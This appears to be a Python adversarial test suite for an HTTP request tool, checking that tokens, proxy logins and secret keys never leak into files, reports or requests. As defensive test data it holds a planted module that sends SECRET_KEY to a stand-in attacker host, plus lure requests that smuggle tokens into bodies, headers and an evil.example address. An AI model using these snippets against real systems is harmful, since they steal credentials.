"""A server repeats what it received, and a request from Git makes it repeat a token."""

import asyncio
import base64
import gzip
import json
import os
import re
import subprocess
import sys
import zlib

import pytest

from tests.adversarial.machine import READ, Machine, answer_as_weda, stolen
from tests.adversarial.recorder import Reply, json_reply
from tests.adversarial.test_answers import answering
from tests.adversarial.test_tokens import whatever_is_shown
from tests.canaries import ACCESS, PASSWORD, SECRET_ID, SECRET_KEY, leaks
from weda_tui.core.masking import MASK
from weda_tui.core.runs.results import Consent
from weda_tui.session import Session
from weda_tui.session.runs.request_loader import RequestLoader
from weda_tui.session.runs.runner import RequestRun, RunOptions, entries_of
from weda_tui.store.paths import Paths

HOME = "{{vars.host}}/weda/workflow/v1/{{WeDa.EnvType}}/DescribeInstanceApproverList"
OPAQUE = "canaryOpaque0123456789abcdef"
NONE = "Authorization: none"
ECHO = f'{{"timestamp": 1, "status": 404, "path": "/weda/NoSuchCall/{ACCESS}"}}'.encode()


@pytest.mark.parametrize("spelling", ["{{access_token}}", ACCESS])
@pytest.mark.parametrize(
    ("request_text", "reply"),
    [
        (
            'method = "GET"\nurl = "{{vars.host}}/weda/NoSuchCall/{{access_token}}"\n',
            Reply(ECHO, 404, (("Content-Type", "application/json"),)),
        ),
        (
            'method = "TRACE"\nurl = "{{vars.host}}/weda/workflow/v1/dev/GetFlowInstances"\n',
            Reply(f"TRACE /x\nAuthorization: Bearer {ACCESS}".encode(), 200, ()),
        ),
        (
            'method = "POST"\nurl = "{{vars.host}}/weda/x"\nbody = \'{"a": "{{access_token}}"}\'\n',
            json_reply({"said": {"a": ACCESS}}),
        ),
        (
            f'method = "POST"\nurl = "{HOME}"\nheaders = ["X-Request-Id: {{{{access_token}}}}"]\n',
            json_reply({"Response": {"RequestId": ACCESS}}),
        ),
        (
            f'method = "POST"\nurl = "{HOME}?q={{{{access_token}}}}"\nheaders = ["{NONE}"]\n',
            Reply(f"no such value: {ACCESS}".encode("utf-16"), 200, ()),
        ),
        (
            'method = "GET"\nurl = "{{vars.host}}/weda/trace"\n',
            json_reply({"traces": [{"authorization": [f"Bearer {ACCESS}"]}]}),
        ),
    ],
)
def test_no_file_of_the_workspace_gets_a_token_that_was_repeated(
    machine: Machine, request_text: str, reply: Reply, spelling: str
) -> None:
    machine.sites.plain.answers = answering("/weda", reply)
    request_text = request_text.replace("{{access_token}}", spelling)
    machine.write("collections/lure/go.toml", f'endpoint = "{READ}"\n{request_text}')
    file = machine.workspace / "answer.json"
    machine.run("send", "lure/go", "--env", "hq", "--yes", "-o", str(file))
    assert stolen(file.read_bytes() if file.exists() else b"") == []


@pytest.mark.parametrize("coding", ["gzip", "deflate"])
def test_no_file_tells_how_long_a_packed_answer_was(machine: Machine, coding: str) -> None:
    """A repeated token compresses better: the length would confirm a guess in the same response."""
    said = json.dumps({"Response": {"RequestId": "r", "Data": {"Rows": [ACCESS] * 40}}}).encode()
    packed = (gzip if coding == "gzip" else zlib).compress(said)
    length = str(len(packed)).encode()
    reply = Reply(packed, 200, (("Content-Encoding", coding), ("Content-Type", "application/json")))
    machine.sites.plain.answers = answering("/weda", reply)
    name = "header content-length"
    guess = f'[capture]\nlen = "{name}"\n[[assert]]\non = "{name}"\nequals = 0\n'
    machine.write("collections/lure/go.toml", CALL + guess)
    shown = whatever_is_shown(machine)
    assert b"lure/go" in shown
    assert re.search(rb"(?<![\d.:])%s(?!\d)" % length, shown) is None
    assert machine.run("run", "lure/go", "--env", "hq").status == 6


@pytest.mark.parametrize("form", ["Range: bytes=0-60", "Accept-Encoding: x-lz"])
def test_a_call_that_may_make_a_server_repeat_a_token_chooses_no_form_of_its_answer(
    machine: Machine, form: str
) -> None:
    headers = f'headers = ["X-Request-Id: {ACCESS}", "{form}"]\n'
    machine.write(
        "collections/lure/go.toml",
        f'endpoint = "{READ}"\nmethod = "POST"\nurl = "{HOME}"\n{headers}',
    )
    before = len(machine.sites.plain.requests)
    machine.run("send", "lure/go", "--env", "hq", "--yes")
    machine.sites.plain.settle()
    assert len(machine.sites.plain.requests) == before + 1
    assert form.encode() not in machine.sites.plain.received


TAKES = """endpoint = "auth.clientCredential"
[capture]
taken = "$.access_token"
"""
CALL = f'endpoint = "{READ}"\n'
EDIT = """method = "POST"
url = "{{vars.host}}/auth/v1/user/basic/edit"
depends = ["lure/taken"]
"""
MISPLACED = {
    "body": CALL + 'body = \'{"PageSize": "{{access_token}}"}\'\n',
    "variable": CALL + 'body = "{{ a }}"\n[variables]\na = "x{{access_token}}"\n',
    "header": CALL + 'headers = ["X-Request-Id: {{access_token}}"]\n',
    "query": f'{CALL}method = "POST"\nurl = "{HOME}?q={{{{access_token}}}}"\n',
    "captured": CALL + 'body = \'{"Comment": "{{taken}}"}\'\ndepends = ["lure/taken"]\n',
    "captured-nickname": EDIT + 'body = \'{"nickname": "{{taken}}"}\'\n',
    "captured-address": EDIT.replace("user/basic/edit", "verification")
    + 'body = \'{"email": "{{taken}}@evil.example"}\'\n',
    "revoked-and-kept": EDIT.replace("user/basic/edit", "revoke")
    + 'body = \'{"token": "{{access_token}}", "x": "{{access_token}}"}\'\n',
    "own-auth": CALL + 'headers = ["Authorization: none", "X: {{access_token}}"]\n',
}


def test_no_saved_request_sends_a_token_outside_the_authorization_header(machine: Machine) -> None:
    machine.write("collections/lure/taken.toml", TAKES)
    for name, text in MISPLACED.items():
        machine.write(f"collections/lure/{name}.toml", text)
        sent = machine.run("send", f"lure/{name}", "--env", "hq", "--yes", "--json")
        assert (sent.status, "Authorization header" in sent.talk) == (2, True), name
    for name in (name for name in MISPLACED if not name.startswith("captured")):
        shown = machine.run("send", f"lure/{name}", "--env", "hq", "--dry-run")
        assert "Authorization header" in shown.text + shown.talk, name
        copied = machine.run("export", f"lure/{name}", "--format", "python", "--env", "hq")
        assert copied.status == 2, name
    machine.run("run", "lure", "--env", "hq", "--yes")
    machine.sites.plain.settle()
    assert machine.sites.plain.requests
    assert not re.search(b"/weda/|/auth/v1/[^t]", machine.sites.plain.received)


def test_a_packed_answer_that_nobody_can_read_is_written_nowhere(machine: Machine) -> None:
    machine.write(
        "collections/lure/go.toml", CALL + 'headers = ["Accept-Encoding: gzip, br;q=0.9"]\n'
    )
    packed = b"\x0b\x02\x80canaryPacked\x03"
    reply = Reply(packed, 200, (("Content-Encoding", "br"), ("Content-Type", "application/json")))
    machine.sites.plain.answers = answering("/weda", reply)
    file = machine.workspace / "answer.json"
    for options in (("-o", str(file)), (), ("--json",)):
        ran = machine.run("send", "lure/go", "--env", "hq", *options)
        assert b"canaryPacked" not in ran.data + ran.talk.encode()
        assert b"canaryPacked" not in (file.read_bytes() if file.exists() else b"")
    machine.sites.plain.settle()
    assert b"Accept-Encoding: gzip, deflate" in machine.sites.plain.received
    assert b"br;q" not in machine.sites.plain.received


def test_a_token_that_was_renewed_is_masked_to_its_end(machine: Machine) -> None:
    tokens = iter([OPAQUE, OPAQUE[::-1]])

    def answers(path: str) -> Reply:
        if path.startswith("/auth/"):
            return json_reply({"access_token": next(tokens), "expires_in": 7200})
        return json_reply({"Response": {"Data": {"Comments": [f"seen {OPAQUE}"]}}})

    machine.sites.plain.answers = answers
    for _ in range(2):
        assert machine.run("token", "--refresh", "--env", "hq").status == 0
    machine.write("collections/lure/go.toml", CALL)
    file = machine.workspace / "answer.json"
    assert machine.run("send", "lure/go", "--env", "hq", "-o", str(file)).status == 0
    assert b"seen" in file.read_bytes()
    assert OPAQUE.encode() not in file.read_bytes()


PROXY_PASSWORD = "canaryProxyPassword0123456789"


@pytest.mark.parametrize("method", ["GET", "TRACE"])
@pytest.mark.parametrize("status", [200, 403])
@pytest.mark.parametrize("kind", ["text/html", "application/json"])
def test_the_login_of_this_machines_proxy_is_shown_nowhere(
    machine: Machine, monkeypatch: pytest.MonkeyPatch, method: str, status: int, kind: str
) -> None:
    """A page of the proxy repeats the headers that the proxy received."""
    site = machine.sites.corporate
    login = f"joe:{PROXY_PASSWORD}"
    monkeypatch.setenv("HTTP_PROXY", f"http://{login}@{site.place}")
    coded = base64.b64encode(login.encode()).decode()

    def answers(path: str) -> Reply:
        if path.startswith("/auth"):
            return answer_as_weda(path)
        assert coded.encode() in site.received
        said = f"Proxy-Authorization: Basic {coded}"
        text = json.dumps({"headers": [said]}) if "json" in kind else f"Denied.\n{said}"
        return Reply(text.encode(), status, (("Content-Type", kind),))

    site.answers = answers
    given = ("--host", "http://weda.example", "--secret-id", SECRET_ID)
    assert machine.run("env", "add", "px", *given, stdin=f"{SECRET_KEY}\n\n").status == 0
    machine.write("collections/lure/go.toml", f'method = "{method}"\nurl = "{{{{vars.host}}}}/x"\n')
    at = ("send", "lure/go", "--env", "px", "--yes")
    for options in ((), ("--json",), ("--dry-run",)):
        for is_terminal in (False, True):
            ran = machine.run(*at, *options, terminal=is_terminal)
            assert leaks(ran.data + ran.talk.encode(), [PROXY_PASSWORD, login]) == []
    kept = b"".join(each.read_bytes() for each in machine.state.rglob("*") if each.is_file())
    assert leaks(kept, [PROXY_PASSWORD, login]) == []


def test_no_answer_is_asked_whether_a_guess_is_the_login_of_the_proxy(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTP_PROXY", f"http://joe:{PROXY_PASSWORD}@127.0.0.1:9")
    words = [*(f"word {number}" for number in range(8)), PROXY_PASSWORD, "word 9"]
    answer = json_reply({"c": [{"w": word, "i": f"n{at}"} for at, word in enumerate(words)]})
    machine.evil.answers = answering("/a", answer)
    machine.write("environments/staging.toml", 'host = "<EVIL>"\n[env_types]\ndev = "none"\n')
    machine.approve("staging")
    machine.write("collections/s/a.toml", LISTING)
    machine.write("collections/s/b.toml", ASKING)
    machine.run("run", "s/b", "--env", "staging")
    machine.evil.settle()
    asked = [request.split()[1] for request in machine.evil.requests]
    assert "/a" in asked
    assert "/got/n8" not in asked


def test_a_token_in_the_name_of_a_header_is_masked(machine: Machine) -> None:
    reply = Reply(b"{}", 200, ((f"X-{OPAQUE}", "1"), ("Content-Type", "application/json")))
    machine.sites.plain.answers = answering("/weda", reply)
    headers = f'headers = ["X-Trace: {OPAQUE}", "Authorization: Bearer {OPAQUE}"]\n'
    machine.write(
        "collections/lure/go.toml",
        f'endpoint = "{READ}"\nmethod = "POST"\nurl = "{HOME}"\n{headers}',
    )
    ran = machine.run("send", "lure/go", "--env", "hq", "--yes", "--json")
    assert b'"headers"' in ran.data
    assert OPAQUE.encode() not in ran.data
    machine.run("history", "show", "1", "--json")
    kept = b"".join(each.read_bytes() for each in machine.state.rglob("*.sqlite3*"))
    assert b"X-Trace" in kept
    assert OPAQUE.encode() not in kept


LISTING = """method = "GET"
url = "{{vars.host}}/a"
headers = ["Authorization: none"]
[capture]
hit = "$.c[?search(@.w, '•')].i"
[[assert]]
on = "verdict"
oneOf = ["ok", "unknown", "failure"]
"""
ASKING = """method = "GET"
url = "{{vars.host}}/got/{{hit}}"
headers = ["Authorization: none"]
depends = ["s/a"]
"""


@pytest.mark.parametrize("command", ["send", "run"])
def test_what_is_captured_tells_nothing_of_a_variable_that_nobody_approved(
    machine: Machine, command: str
) -> None:
    words = [
        *(f"word {number}" for number in range(8)),
        os.environ["AWS_SECRET_ACCESS_KEY"],
        "word 9",
    ]
    answer = json_reply({"c": [{"w": word, "i": f"n{at}"} for at, word in enumerate(words)]})

    def answers(path: str) -> Reply:
        return answer if path == "/a" else json_reply({})

    machine.evil.answers = answers
    plain = 'host = "<EVIL>"\n[env_types]\ndev = "none"\n'
    machine.write("environments/staging.toml", plain)
    machine.approve("staging")
    key = 'secret_id = "x"\nsecret_key = "env:AWS_SECRET_ACCESS_KEY"\n'
    machine.write("environments/staging.toml", key + plain)
    machine.write("collections/s/a.toml", LISTING)
    machine.write("collections/s/b.toml", ASKING)
    machine.run(command, "s/b", "--env", "staging")
    machine.evil.settle()
    asked = [request.split()[1] for request in machine.evil.requests]
    assert "/a" in asked
    assert "/got/n8" not in asked


POLLING = """method = "GET"
url = "{{vars.host}}/a"
headers = ["Authorization: none"]
[poll]
until = { on = "$.c[8].w", equals = "ready" }
every = 0.01
at_most = 600
"""


async def run_in(session: Session, path: str, environment: str) -> None:
    """Run saved requests as the explorer does, in a session that stays open."""
    where = session.environments.where_exactly(environment, "dev")
    loader = RequestLoader(session, where)
    entries = entries_of(loader.chosen((path,)), ())
    run = RequestRun(session, loader, entries, RunOptions(where=where, consent=Consent()))
    session.approvals.check(await run.route())
    await run.go()


async def test_an_answer_tells_nothing_of_a_secret_of_another_environment(machine: Machine) -> None:
    words = [*(f"word {number}" for number in range(8)), PASSWORD, "word 9"]
    last = [*words[:8], "ready"]
    lists = iter([words, words, words, last])

    def answers(path: str) -> Reply:
        listed = next(lists, last) if path == "/a" else []
        return json_reply({"c": [{"w": word, "i": f"n{at}"} for at, word in enumerate(listed)]})

    machine.evil.answers = answers
    machine.write("environments/staging.toml", 'host = "<EVIL>"\n[env_types]\ndev = "none"\n')
    await asyncio.to_thread(machine.approve, "staging")
    machine.write("collections/s/a.toml", LISTING)
    machine.write("collections/s/b.toml", ASKING)
    machine.write("collections/p/a.toml", POLLING)
    paths = Paths(workspace=machine.workspace, state=machine.state)
    session = Session(paths, environ=os.environ, use_keyring=False)
    await session.warm_up()
    await run_in(session, "basic/read", "hq")
    assert session.tokens.masker().text(PASSWORD) != PASSWORD
    await run_in(session, "s/b", "staging")
    await run_in(session, "p/a", "staging")
    await session.aclose()
    machine.evil.settle()
    asked = [request.split()[1] for request in machine.evil.requests]
    assert asked.count("/a") == 4
    assert "/got/n8" not in asked


def test_an_exported_program_trusts_what_was_approved(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = machine.folder / "todo.py"
    machine.run("export", "basic", "--format", "python", "--env", "tls", "-o", str(program))
    code = compile(program.read_text("utf-8"), program.name, "exec")
    monkeypatch.setenv("SECRET_ID", SECRET_ID)
    monkeypatch.setenv("SECRET_KEY", SECRET_KEY)
    for name in ("WEDA_HOST", "ACCESS_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(sys, "path", ["", *sys.path])
    machine.write("certs/ca.pem", machine.trust.evil_ca.read_text("utf-8"))
    machine.be_on_a_hostile_network()
    with pytest.raises(SystemExit):
        exec(code, {})  # noqa: S102
    machine.evil.settle()
    assert machine.stolen == []


def test_an_exported_program_imports_nothing_that_lies_beside_it(machine: Machine) -> None:
    machine.write(
        "httpx.py",
        "import os, urllib.request\n"
        "urllib.request.urlopen('<EVIL>/x', os.environ['SECRET_KEY'].encode())\n",
    )
    program = machine.workspace / "todo.py"
    exported = machine.run(
        "export", "basic", "--format", "python", "--env", "hq", "-o", str(program)
    )
    assert exported.status == 0, exported.talk
    environ = {"PATH": os.environ["PATH"], "SECRET_ID": SECRET_ID, "SECRET_KEY": SECRET_KEY}
    for command, given in (([program.name], None), (["-"], program.read_bytes())):
        subprocess.run(
            [sys.executable, *command],
            cwd=machine.workspace,
            env=environ,
            input=given,
            capture_output=True,
            check=False,
            timeout=60,
        )
    assert machine.stolen == []


# -- a key that a server cuts, or spells as it likes -----------------------------------------------

PAIR = base64.b64encode(f"{SECRET_ID}:{SECRET_KEY}".encode()).decode()
OWN = """title = "CRM"
[calls.Ping]
method = "GET"
path = "/crm/ping"
title = "Ping"
effect = "read"
auth = "wedaBasic"
"""
CAPTURE = """
[capture]
said = "$.error_description"
[[assert]]
on = "$.error_description"
equals = "ok"
"""


@pytest.mark.parametrize("call", ["auth.clientCredential", "crm.Ping"])
@pytest.mark.parametrize(
    "quoted",
    [
        PAIR[:40],
        base64.b64decode(PAIR).hex(":"),
        "\n".join(PAIR[at : at + 30] for at in range(0, len(PAIR), 30)),
        SECRET_KEY[:14],
    ],
)
def test_no_part_of_a_key_that_is_quoted_comes_into_a_file(
    machine: Machine, call: str, quoted: str
) -> None:
    said = json.dumps({"error": "invalid_client", "error_description": f"malformed: {quoted}..."})
    reply = Reply(said.encode(), 401)

    def quote(_: str) -> Reply:
        return reply

    machine.sites.plain.answers = quote
    machine.write("modules/crm.toml", OWN)
    machine.write("collections/lure/go.toml", f'endpoint = "{call}"\n{CAPTURE}')
    file, report = machine.workspace / "answer.json", machine.workspace / "report.xml"
    sent = machine.run("send", "lure/go", "--env", "hq", "--yes", "-o", str(file))
    ran = machine.run("run", "lure/go", "--env", "hq", "--yes", "--junit", str(report))
    assert MASK in file.read_text("utf-8")
    shown = sent.talk + ran.talk + ran.text
    for text in (file.read_text("utf-8"), report.read_text("utf-8"), shown):
        assert "invalid_client" in text
        assert quoted[-12:] not in text
        assert json.dumps(quoted[-12:])[1:-1] not in text


def test_no_report_says_which_guess_of_a_key_is_right(machine: Machine) -> None:
    machine.write("modules/crm.toml", OWN)
    machine.write("collections/lure/go.toml", f'endpoint = "crm.Ping"\n{CAPTURE}')
    reports: set[str] = set()
    for guess in (SECRET_KEY[:12], "canary/Ked+1", PAIR[28:40], PAIR[28:39] + "x"):
        said = json.dumps({"error_description": f"no such user: {guess}", "next": "ok"})
        answer_with(machine, Reply(said.encode(), 200))
        report = machine.workspace / "report.xml"
        machine.run("run", "lure/go", "--env", "hq", "--yes", "--junit", str(report))
        reports.add(re.sub(r'(time|timestamp)="[^"]*"', "", report.read_text("utf-8")))
        report.unlink()
    assert len(reports) == 1
    assert MASK in reports.pop()


def test_a_success_rule_reads_no_part_of_a_key(machine: Machine) -> None:
    machine.write("modules/crm.toml", OWN)
    machine.write("collections/lure/go.toml", 'endpoint = "crm.Ping"\n')
    said = json.dumps({"said": PAIR[:40], "part": SECRET_KEY[:9], "ok": True})
    answer_with(machine, Reply(said.encode(), 200))
    for beginning in (PAIR[:4], "XXXX"):
        assert rule_says(machine, f"match($.said, '{beginning}.*')") == 1, "neither is met"
    assert rule_says(machine, "$.ok == true") == 0


def answer_with(machine: Machine, reply: Reply) -> None:
    def answered(_: str) -> Reply:
        return reply

    machine.sites.plain.answers = answered


def rule_says(machine: Machine, rule: str) -> int:
    """Return the exit status of a send that the rule judges."""
    machine.write("rules/success.toml", f'"crm.Ping" = "{rule}"\n')
    return machine.run("send", "lure/go", "--env", "hq", "--yes").status
